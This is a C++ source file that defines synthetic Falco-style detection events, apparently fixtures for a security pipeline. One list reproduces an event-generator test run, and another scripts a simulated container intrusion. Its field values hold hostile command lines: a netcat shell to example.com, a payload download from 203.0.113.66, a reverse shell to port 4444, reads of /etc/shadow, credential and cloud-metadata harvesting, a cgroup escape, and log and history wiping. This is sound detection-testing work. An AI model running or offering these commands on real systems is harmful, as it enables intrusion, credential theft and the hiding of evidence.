// SPDX-License-Identifier: Apache-2.0
#include "pipeline/phenomena_fields.h"

#include <string>
#include <utility>
#include <vector>

namespace gyre::pipeline {

namespace {

using namespace fields;  // NOLINT(google-build-using-namespace): its vocabulary is this file's

const std::string kMe = "event-generator";
const std::string kExe = "/bin/event-generator";
const std::string kTmp = "/tmp/falco-event-generator-syscall-";
const std::string kShm = "/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-$r.sh";
const std::string kLoop = kMe + " run syscall --loop";
const FieldSpec kGeneratorParent{"proc.pcmdline", "event-generator run syscall --loop"};

Phenomenon generated(std::string_view rule, std::string_view text, Fields fields) {
  fields.push_back(kGeneratorParent);
  fields.push_back({"proc.aname[2]", "containerd-shim"});
  return {rule, text, std::move(fields)};
}

Phenomenon shm(std::string result) {
  return generated("Execution from /dev/shm", "A program was run out of /dev/shm",
                   process("sh", "/bin/busybox", kMe, "sh -c " + kShm,
                           {kSpawned, {"evt.res", std::move(result)}, {"proc.cwd", "/"}}));
}

std::vector<Phenomenon> test_run_first() {
  return {
      generated("Clear Log Activities", "A log file was emptied",
                file(kMe, kExe, "containerd-shim", kLoop, kTmp + "ClearLogActivities-$d/syslog")),
      generated("Create Symlink Over Sensitive Files", "A link to a file with secrets was made",
                process("ln", "/bin/busybox", kMe, "ln -s /etc " + kTmp + "symlink-$d/etc_link",
                        {{"evt.type", "symlinkat"},
                         {"evt.arg.target", "/etc"},
                         {"evt.arg.linkpath", kTmp + "symlink-$d/etc_link"}})),
      generated("Detect release_agent File Container Escapes",
                "A cgroup's release_agent was opened for writing",
                file(kMe, kExe, "containerd-shim", kLoop, kTmp + "escape-$d/release_agent",
                     {{"thread.cap_effective", "CAP_DAC_OVERRIDE CAP_SYS_ADMIN"}})),
      generated(
          "Drop and execute new binary in container",
          "A binary that is not of the image was executed",
          process(kMe, kTmp + "drop-$d/dropped", kMe, kTmp + "drop-$d/dropped run helper.DoNothing",
                  {kDropped, {"proc.exe", kTmp + "drop-$d/dropped"}})),
      shm("SUCCESS"),
      shm("EACCES"),
      generated("Fileless execution via memfd_create", "A program was run from memory",
                process("3", "memfd:program", kMe, "3 run helper.DoNothing",
                        {kSpawned, {"evt.res", "SUCCESS"}, {"proc.cwd", "/"}})),
      generated("Find AWS Credentials", "A search for cloud credentials",
                process("find", "/bin/busybox", kMe,
                        "find /tmp -maxdepth 1 -iname .aws/credentials", {kSpawned})),
      generated("Netcat Remote Code Execution in Container", "netcat was told to run a program",
                process("nc", "/bin/busybox", kMe, "nc -e /bin/sh example.com 22", {kSpawned})),

  };
}

std::vector<Phenomenon> test_run_second() {
  return {
      generated("PTRACE attached to process", "A process was attached to by another",
                process(kMe, kExe, "containerd-shim", kLoop, {{"evt.type", "ptrace"}})),
      generated("Read sensitive file untrusted",
                "A file with secrets was read by an unexpected program",
                file(kMe, kExe, "containerd-shim", kLoop, "/etc/shadow")),
      generated("Read sensitive file trusted after startup",
                "A server read secrets long after its start",
                file("httpd", kTmp + "spawned-$d/httpd", kMe,
                     "httpd --loglevel info run helper.ReadSensitiveFile", "/etc/shadow")),
      generated(
          "Remove Bulk Data from Disk", "A tool that destroys data ran",
          process("shred", "/bin/busybox", kMe, "shred -u " + kTmp + "bulk-$d/data", {kSpawned})),
      generated("Run shell untrusted", "A shell was started by a program that is no shell",
                process("sh", "/bin/busybox", "httpd", "sh -c ls > /dev/null",
                        {kSpawned, {"proc.pexepath", kTmp + "spawned-$d/httpd"}})),
      generated("Search Private Keys or Passwords", "A search for keys or passwords",
                process("find", "/bin/busybox", kMe,
                        "find " + kTmp + "keys-$d -maxdepth 1 -iname id_rsa", {kSpawned})),
      generated("System user interactive", "An account without a person ran an interactive command",
                process("login", "/bin/busybox", kMe, "login",
                        {kSpawned, {"user.name", "daemon"}, {"user.uid", "2", true}})),
      generated("Directory traversal monitored file read",
                "A path with many dots reached a watched file",
                file(kMe, kExe, "containerd-shim", kLoop, "/etc/passwd",
                     {{"fd.nameraw", "/var/../../../etc/passwd"}})),
      generated("Debugfs Launched in Privileged Container", "debugfs ran in a privileged container",
                process("debugfs", "/sbin/debugfs", kMe, "debugfs -V", {kSpawned})),
  };
}

std::vector<Phenomenon> break_in() {
  return {
      {"Web Server Spawned Shell", "A web server started a shell",
       process("sh", "/usr/bin/dash", "php-fpm", "sh -c id; uname -a",
               {kSpawned, {"proc.aname[2]", "php-fpm"}})},
      {"Terminal shell in container", "A shell with a terminal runs in a container",
       process("bash", "/usr/bin/bash", "sh", "bash -i", {kSpawned, kTerminal})},
      {"Basic Interactive Reconnaissance", "Somebody at a terminal looks around",
       process("whoami", "/usr/bin/whoami", "bash", "whoami", {kSpawned, kTerminal})},
      {"Read sensitive file untrusted", "A file with secrets was read by an unexpected program",
       file("cat", "/usr/bin/cat", "bash", "cat /etc/shadow", "/etc/shadow", {kTerminal})},
      {"Search Private Keys or Passwords", "A search for keys or passwords",
       process("find", "/usr/bin/find", "bash", "find / -name id_rsa -o -name id_ed25519",
               {kSpawned, kTerminal})},
      {"Find AWS Credentials", "A search for cloud credentials",
       process("grep", "/usr/bin/grep", "bash", "grep -r aws_secret_access_key /srv /home",
               {kSpawned, kTerminal})},
      {"Contact cloud metadata service from container",
       "A container asked the cloud's metadata service",
       connection("curl", "/usr/bin/curl", "bash",
                  "curl -s http://169.254.169.254/latest/meta-data/",
                  {"169.254.169.254", "80", "tcp"})},
      {"Contact K8S API Server From Container", "A container talked to the cluster's API",
       connection("curl", "/usr/bin/curl", "bash", "curl -sk https://10.96.0.1/api/v1/secrets",
                  {"10.96.0.1", "443", "tcp"})},
      {"Launch Ingress Remote File Copy Tools in Container", "A download tool ran in a container",
       process("wget", "/usr/bin/wget", "bash", "wget -q http://203.0.113.66/k -O /tmp/.k-$r",
               {kSpawned, kTerminal})},
      {"Container Drift Detected (chmod)", "A file was made executable in a container",
       process("chmod", "/usr/bin/chmod", "bash", "chmod +x /tmp/.k-$r",
               {{"evt.type", "fchmodat"},
                {"evt.arg.filename", "/tmp/.k-$r"},
                {"evt.arg.mode", "S_IXUSR|S_IXGRP|S_IXOTH"},
                kTerminal})},
      {"Drop and execute new binary in container", "A binary that is not of the image was executed",
       process(".k-$r", "/tmp/.k-$r", "bash", ".k-$r -q",
               {kDropped, {"proc.exe", "/tmp/.k-$r"}, {"proc.cwd", "/tmp/"}, kTerminal})},

  };
}

std::vector<Phenomenon> dig_in() {
  return {
      {"Execution from /dev/shm", "A program was run out of /dev/shm",
       process("sh", "/usr/bin/dash", "bash", "sh -c /dev/shm/.x-$r",
               {kSpawned, {"evt.res", "SUCCESS"}, {"proc.cwd", "/dev/shm/"}})},
      {"Fileless execution via memfd_create", "A program was run from memory",
       process("4", "memfd:", ".k", "4 --daemon",
               {kSpawned, {"evt.res", "SUCCESS"}, {"proc.cwd", "/tmp/"}})},
      {"Redirect STDOUT/STDIN to Network Connection in Container",
       "A standard stream became a socket",
       process("bash", "/usr/bin/bash", ".k", "bash -i",
               {{"evt.type", "dup2"},
                {"fd.name", "$a:$p->203.0.113.66:4444"},
                {"fd.sip", "203.0.113.66"},
                {"fd.lport", "4444", true},
                {"fd.rport", "$p", true},
                {"fd.type", "ipv4"},
                {"fd.l4proto", "tcp"}})},
      {"Schedule Cron Jobs", "A cron job was written",
       file("bash", "/usr/bin/bash", ".k", "bash -i", "/etc/cron.d/sysupd-$r")},
      {"Modify Shell Configuration File", "A shell's start file was changed",
       file("bash", "/usr/bin/bash", ".k", "bash -i", "/root/.bashrc",
            {{"proc.pcmdline", ".k -q"}})},
      {"Change namespace privileges via unshare", "A program asked for namespaces of its own",
       process("unshare", "/usr/bin/unshare", "bash", "unshare -UrmC bash",
               {{"evt.type", "unshare"}, {"evt.res", "SUCCESS"}})},
      {"Mount Launched in Privileged Container", "mount ran in a privileged container",
       process("mount", "/usr/bin/mount", "bash", "mount -t cgroup -o rdma cgroup /tmp/cg-$r",
               {kSpawned})},
      {"Detect release_agent File Container Escapes",
       "A cgroup's release_agent was opened for writing",
       file("bash", "/usr/bin/bash", "bash", "bash -i", "/tmp/cg-$r/release_agent",
            {{"thread.cap_effective", "CAP_DAC_OVERRIDE CAP_SYS_ADMIN"}})},
      {"Clear Log Activities", "A log file was emptied",
       file("bash", "/usr/bin/bash", "bash", "bash -i", "/var/log/auth.log")},
      {"Delete or rename shell history", "A shell's history was removed",
       process("rm", "/usr/bin/rm", "bash", "rm -f /root/.bash_history",
               {{"evt.type", "unlinkat"}, {"evt.arg.name", "/root/.bash_history"}})},
  };
}

}  // namespace

const std::vector<Phenomenon>& test_run() {
  static const std::vector<Phenomenon> kList = joined(test_run_first(), test_run_second());
  return kList;
}

const std::vector<Phenomenon>& intrusion() {
  static const std::vector<Phenomenon> kList = joined(break_in(), dig_in());
  return kList;
}

}  // namespace gyre::pipeline
